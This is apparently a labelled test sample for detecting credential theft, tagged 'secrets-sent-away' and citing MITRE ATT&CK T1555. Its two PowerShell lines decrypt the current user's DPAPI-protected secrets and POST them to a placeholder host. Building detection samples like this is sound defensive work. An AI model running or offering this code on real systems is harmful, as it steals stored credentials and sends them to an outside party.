# expect: secrets-sent-away | source: MITRE ATT&CK T1555
$d = [Security.Cryptography.ProtectedData]::Unprotect($bytes, $null, 'CurrentUser')
Invoke-WebRequest -Uri http://files.example.invalid/in -Method POST -Body $d
